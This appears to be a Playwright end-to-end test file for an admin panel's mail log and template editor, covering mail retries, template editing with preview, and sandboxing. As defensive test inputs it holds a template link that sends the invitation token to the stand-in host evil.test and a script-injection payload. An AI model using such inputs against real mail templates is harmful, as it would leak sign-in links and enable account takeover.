import type { Page } from 'playwright-core';

import { firstAdmin, mailbox } from '../support';
import { shared, succeed } from '../features/vocabulary';
import { accessibilityProblems, inSystemTheme } from './accessibility';
import { confirm, rowWith, thePanel, untilItIs, untilTold, visit } from './panel';

const panel = thePanel();
let page: Page;
beforeEach(async () => {
  page = await panel.atWork();
});
afterEach(() => mailbox.mendMailServer());

const preview = () => page.frameLocator('iframe[title="Preview"]');

it('shows what was sent to whom, why it did not leave, and sends it again', async () => {
  const { id, email: address } = await shared.aUser();
  await mailbox.breakMailServer();
  // By a request: who is locked is told once its answer has left.
  succeed(await shared.gatehouse.post(`/users/${id}/lock`, { body: {} }));
  await visit(page, 'mails');
  await page.getByRole('button', { name: 'Refresh' }).click();
  await rowWith(page, address).getByText('Waiting').waitFor();
  await rowWith(page, address).getByText('Try again later').waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);

  await mailbox.mendMailServer();
  await rowWith(page, address)
    .getByRole('button', { name: /^Try now to send/ })
    .click();
  await untilTold(page, `The mail to ${address} has left`);
  await rowWith(page, address).getByText('Sent').waitFor();
  expect((await mailbox.nextMailTo(address)).subject).toMatch(/is locked$/);

  await rowWith(page, address).getByRole('link').click();
  await page.getByRole('tab', { name: 'Activity', selected: true }).waitFor();
  await page
    .getByText(/is locked$/)
    .first()
    .waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);
});

it('changes a template beside its preview, tries it out, and puts it back', async () => {
  await visit(page, 'mail-templates');
  await page.getByRole('link', { name: 'Invitation' }).waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);
  await inSystemTheme(page, 'dark');
  await page.getByRole('link', { name: 'Invitation' }).click();
  await preview().getByText("Hello Ada O'Byron,").waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);

  await page.getByLabel('Subject').fill('Come in, ');
  await page.getByRole('button', { name: '{{user.firstname}}' }).click();
  await page.getByText('Come in, Ada', { exact: true }).waitFor();
  await untilItIs(() => page.getByLabel('Subject').inputValue(), 'Come in, {{user.firstname}}');

  // What the mail is for has to be in it, and goes nowhere else.
  await page.getByText('{{link}} must stand in the HTML and in the plain text').waitFor();
  await page.getByRole('textbox', { name: 'HTML' }).fill('<p>New words</p>');
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByText('Must hold {{link}}, whatever the values are').first().waitFor();
  await page
    .getByRole('textbox', { name: 'HTML' })
    .fill('<p>New words</p><a href="https://evil.test/?{{link}}">Come in</a>');
  await page.getByRole('status').getByText('{{link}} may stand only as text').waitFor();

  await page.getByRole('textbox', { name: 'HTML' }).fill('{{{user.firstname}}}');
  await page
    .getByRole('status')
    .getByText(/would put a value in as it is/)
    .waitFor();
  await page.getByRole('textbox', { name: 'HTML' }).fill('<p>New words for {{user.firstname}}</p> {{link}}');
  await page.getByRole('button', { name: 'Send me a test' }).click();
  await untilTold(page, `The mail to ${firstAdmin.email} has left`);
  // Beside what tells of the browsers that the admin has signed in from.
  const mails = await mailbox.mailsTo(firstAdmin.email);
  expect(mails.map(({ html }) => html).join()).toContain('New words for First');

  await page.getByRole('button', { name: 'Save' }).click();
  await untilTold(page, 'The template is saved');
  await page.getByRole('button', { name: 'Back to the default' }).click();
  await confirm(page, 'Back to the default');
  await untilTold(page, 'The default text is back');
  expect(await page.getByLabel('Subject').inputValue()).toContain('{{project.name}}');
});

it('runs nothing of what somebody writes into a template', async () => {
  await visit(page, 'mail-templates');
  await page.getByRole('link', { name: 'Password changed' }).click();
  await page
    .getByRole('textbox', { name: 'HTML' })
    .fill('<p>New words</p><script>parent.document.title = "taken"</script>');
  await preview().getByText('New words').waitFor();

  expect(await page.title()).not.toBe('taken');
});
